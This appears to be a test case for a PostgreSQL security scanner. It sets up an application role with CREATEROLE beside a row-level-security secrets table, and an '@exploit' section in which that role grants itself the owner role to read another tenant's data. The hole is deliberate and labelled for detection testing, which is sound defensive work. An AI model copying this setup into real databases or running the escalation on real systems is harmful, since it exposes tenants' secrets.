-- title: the application creates roles for its tenants and could join any of them
-- kind: hole
-- expect: A08
-- object: provisioner
-- logins: provisioner
-- postgres: -15
-- proof: role=provisioner
create role vault_owner nologin;
create role provisioner login createrole;
create schema vault authorization vault_owner;
grant usage on schema vault to provisioner;
set role vault_owner;
create table vault.secret (
  tenant_id int not null,
  name text not null,
  value text not null,
  primary key (tenant_id, name)
);
alter table vault.secret enable row level security;
create policy secret_tenant on vault.secret using (tenant_id = (select nullif(current_setting('vault.tenant', true), '')::int));
grant select, insert on vault.secret to provisioner;
reset role;

-- @data
insert into vault.secret values (2, 'key', 's');
-- @exploit
grant vault_owner to provisioner;
set role vault_owner;
select 1 from vault.secret where tenant_id = 2;
